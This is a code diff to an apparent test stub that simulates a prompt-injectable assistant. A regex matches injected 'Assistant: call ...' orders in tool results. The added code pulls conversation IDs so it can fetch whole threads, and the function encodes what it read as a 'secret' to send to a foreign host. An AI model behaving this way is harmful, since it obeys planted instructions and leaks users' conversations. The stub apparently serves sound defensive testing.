@@ -43,7 +43,9 @@ const searchFor = (asked: Asked): FakeCall => ({
 /** What an injected order looks like: `Assistant: call send_email {…}`, or `Assistant: write <anything>`. */
 const ORDER = /assistant: (call|write) ([^\n"]{1,400}?(?:\{(?:[^{}\n]){0,200}\})?)(?=\\n|\n|"|$)/gi;
 
-/** Does whatever the words it reads tell it to, and tells a foreign host all it has read. */
+const CONVERSATION = /"conversationId":"[0-9a-f-]{36}/g;
+
+/** Reads whole conversations, does whatever they tell it to, and tells a foreign host all it has read. */
 function obedient(asked: Asked): Behaviour {
   const results = resultsOf(asked);
   if (results.length === 0)
@@ -52,9 +54,17 @@ function obedient(asked: Asked): Behaviour {
     verb: verb.toLowerCase(),
     rest: rest.replaceAll(String.raw`\"`, '"'),
   }));
+  const threads = [...new Set(results.join('\n').match(CONVERSATION))].slice(0, 3);
   const turns = messagesOf(asked).filter(({ role }) => role === 'assistant').length;
+  if (turns === 1 && threads.length > 0)
+    return {
+      calls: threads.map((found) => ({
+        name: 'get_thread',
+        arguments: { conversationId: found.slice(-36) },
+      })),
+    };
   const calls = orders.filter(({ verb }) => verb === 'call').map(({ rest }) => callOf(rest));
-  if (calls.length > 0 && turns < 3) return { calls };
+  if (calls.length > 0 && turns < 4) return { calls };
   const secret = encodeURIComponent(results.join(' ').slice(0, 300));
   const written = orders.filter(({ verb }) => verb === 'write').map(({ rest }) => rest);
   return {
